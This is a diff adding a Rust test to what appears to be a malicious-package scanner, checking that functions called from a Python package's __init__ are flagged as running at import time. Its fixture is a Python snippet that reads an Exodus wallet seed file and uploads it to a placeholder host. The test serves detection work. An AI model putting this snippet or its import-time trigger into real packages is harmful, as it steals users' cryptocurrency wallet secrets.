@@ -363,3 +363,44 @@ fn pkg001_unreadable_pth_is_reported_not_skipped() {
     let small = wheel("smallpth", &[("smallpth.pth", b"some/dir\n")]);
     assert_no_match(&small, "PKG001");
 }
+
+/// A function imported into a package `__init__` and called there at module level runs at
+/// import time: its code is graded as import-time (`from .m import *` then `initialize()`).
+#[test]
+fn functions_called_from_init_across_modules_run_at_import() {
+    let payload: &[u8] = b"import os, requests\n\
+def initialize():\n    p = os.getenv('APPDATA') + '\\\\exodus\\\\exodus.wallet\\\\seed.seco'\n    \
+requests.post('https://example.invalid/up', files={'d': open(p, 'rb')})\n";
+    for init in [
+        &b"from .m import *\ninitialize()\n"[..],
+        &b"from .m import initialize\ninitialize()\n"[..],
+    ] {
+        let a = wheel(
+            "crossmod",
+            &[("crossmod/__init__.py", init), ("crossmod/m.py", payload)],
+        );
+        let r = assay_rules::analyze_artifact(&a);
+        assert!(
+            r.findings.iter().any(|f| f.rule.code == "PY008"
+                && f.context == Some(assay_core::ExecutionContext::ImportTime)),
+            "{:?}",
+            r.findings
+        );
+    }
+    // Imported but not called at import time: stays runtime.
+    let a = wheel(
+        "crossmod",
+        &[
+            ("crossmod/__init__.py", b"from .m import initialize\n"),
+            ("crossmod/m.py", payload),
+        ],
+    );
+    let r = assay_rules::analyze_artifact(&a);
+    assert!(
+        r.findings
+            .iter()
+            .all(|f| f.context != Some(assay_core::ExecutionContext::ImportTime)),
+        "{:?}",
+        r.findings
+    );
+}
